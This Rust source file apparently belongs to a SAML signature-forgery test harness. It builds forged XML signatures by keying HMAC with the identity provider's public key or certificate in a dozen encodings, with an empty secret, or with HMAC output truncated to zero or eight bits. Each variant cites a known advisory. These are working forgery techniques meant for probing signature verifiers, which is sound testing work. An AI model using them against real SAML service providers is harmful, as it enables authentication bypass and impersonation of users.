use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::crypto::SignatureAlgorithm;
use crate::dsig::Written;
use crate::saml::forge::{Bench, Draft, ForgeError, KeyPair, Seal, SealKey};

use super::list::tamperings;
use super::place::tag;
use super::stage::Stage;

tamperings! {
    /// The signature is an HMAC whose secret is what everybody knows: the public key that the target
    /// trusts. A verifier that lets the message choose the algorithm and hands its key over as bytes
    /// takes them for the secret; which bytes those are differs.
    HmacTampering, "HMAC with the public key as the secret";

    /// The secret is the SubjectPublicKeyInfo in DER.
    SpkiDer = "hmac-spki-der", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the SubjectPublicKeyInfo in PEM, its last line end included.
    SpkiPem = "hmac-spki-pem", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the SubjectPublicKeyInfo in PEM without its last line end.
    SpkiPemTrimmed = "hmac-spki-pem-trimmed", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the SubjectPublicKeyInfo in base64, in one line.
    SpkiBase64 = "hmac-spki-base64", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the certificate in DER.
    CertificateDer = "hmac-certificate-der", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the certificate in PEM, its last line end included.
    CertificatePem = "hmac-certificate-pem", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the certificate in PEM without its last line end.
    CertificatePemTrimmed = "hmac-certificate-pem-trimmed", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the certificate in PEM with CR LF line ends.
    CertificatePemCrLf = "hmac-certificate-pem-crlf", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the certificate in base64, in one line, as metadata has it.
    CertificateBase64 = "hmac-certificate-base64", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is the modulus, or the point of a key on a curve.
    Number = "hmac-number", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// The secret is empty.
    Empty = "hmac-empty-secret", Forgery, "RFC 2104 section 3";
    /// The secret is the certificate in PEM, and the digest SHA-1.
    Sha1CertificatePem = "hmac-sha1-certificate-pem", Forgery, "GHSA-c27r-x354-4m68 (xml-crypto)";
    /// Nobody's secret, and no bit of the HMAC is to be compared.
    OutputLengthZero = "hmac-output-length-zero", Forgery, "CVE-2009-0217; XML Signature 6.3.1";
    /// The certificate in PEM is the secret, and eight bits of the HMAC are to be compared.
    OutputLengthEight = "hmac-output-length-eight", Forgery, "CVE-2009-0217; XML Signature 6.3.1";
}

impl HmacTampering {
    /// The bytes that everybody knows.
    pub(super) fn secret(self, trusted: &KeyPair) -> Vec<u8> {
        let key = trusted.key.verifying_key();
        let spki = key.to_spki().unwrap_or_default();
        let certificate = &trusted.certificate;
        let trimmed = |text: String| text.trim_end().as_bytes().to_vec();
        match self {
            Self::SpkiDer => spki,
            Self::SpkiPem => pem("PUBLIC KEY", &spki).into_bytes(),
            Self::SpkiPemTrimmed => trimmed(pem("PUBLIC KEY", &spki)),
            Self::SpkiBase64 => STANDARD.encode(spki).into_bytes(),
            Self::CertificateDer => certificate.clone(),
            Self::CertificatePem | Self::Sha1CertificatePem | Self::OutputLengthEight => {
                pem("CERTIFICATE", certificate).into_bytes()
            }
            Self::CertificatePemTrimmed => trimmed(pem("CERTIFICATE", certificate)),
            Self::CertificatePemCrLf => {
                pem("CERTIFICATE", certificate).replace('\n', "\r\n").into_bytes()
            }
            Self::CertificateBase64 => STANDARD.encode(certificate).into_bytes(),
            Self::Number => match (key.rsa_numbers(), key.ec_point()) {
                (Some((modulus, _)), _) => modulus.to_vec(),
                (None, Some((_, point))) => point.to_vec(),
                // An Ed25519 key is the end of its SubjectPublicKeyInfo.
                (None, None) => {
                    spki.get(spki.len().saturating_sub(32)..).unwrap_or_default().to_vec()
                }
            },
            Self::Empty => Vec::new(),
            Self::OutputLengthZero => b"nobody knows".to_vec(),
        }
    }
}

impl Stage for HmacTampering {
    fn plan(self, seal: &mut Seal, _: &mut Draft, bench: &Bench<'_>) -> Result<(), ForgeError> {
        seal.key = SealKey::Secret(self.secret(&bench.context.idp.signing));
        seal.plan.key_info.clear();
        let algorithm = match self {
            Self::Sha1CertificatePem => SignatureAlgorithm::HmacSha1,
            _ => SignatureAlgorithm::HmacSha256,
        };
        let length = match self {
            Self::OutputLengthZero => Some(0),
            Self::OutputLengthEight => Some(8),
            _ => None,
        };
        let element = tag(seal, "HMACOutputLength");
        for info in &mut seal.plan.signed_infos {
            info.algorithm = algorithm;
            if let Some(bits) = length {
                info.method_content = format!("<{element}>{bits}</{element}>");
            }
        }
        if self == Self::OutputLengthZero {
            seal.plan.value = Written::Empty;
        }
        Ok(())
    }

    fn after_signing(self, draft: &mut Draft, _: &Bench<'_>) -> Result<(), ForgeError> {
        if self != Self::OutputLengthEight {
            return Ok(());
        }
        for sealed in draft.sealed()? {
            let value = draft.part(sealed.signature, "SignatureValue")?;
            let whole = STANDARD.decode(draft.text(value)).unwrap_or_default();
            let first = whole.get(..1).unwrap_or_default();
            draft.say(value, &STANDARD.encode(first))?;
        }
        Ok(())
    }
}

/// PEM as OpenSSL writes it (RFC 7468 section 3): lines of 64 characters.
fn pem(label: &str, der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines = text.as_bytes().chunks(64).map(String::from_utf8_lossy);
    let body = lines.fold(String::new(), |body, line| body + &line + "\n");
    format!("-----BEGIN {label}-----\n{body}-----END {label}-----\n")
}
